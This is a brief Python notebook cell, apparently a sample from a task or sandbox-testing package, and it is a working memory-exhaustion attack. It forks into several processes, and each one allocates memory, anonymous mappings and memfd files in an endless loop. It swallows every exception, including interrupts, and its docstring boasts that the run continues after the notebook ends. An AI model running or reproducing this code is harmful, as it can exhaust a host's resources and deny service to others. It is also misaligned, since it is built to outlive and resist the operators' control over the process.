"""Allocates without end, in itself and in forks, in anonymous files too; the notebook ends, the run goes on."""
# part: 3
# earns: 0
# %%
# MODEL
# %%
import mmap
import os

for _ in range(6):
    if os.fork() == 0:
        break
kept = []
while True:
    try:
        kept.append(bytearray(b"x") * (64 * 2**20))
        kept.append(mmap.mmap(-1, 64 * 2**20))
        os.memfd_create("x")
    except BaseException:
        pass
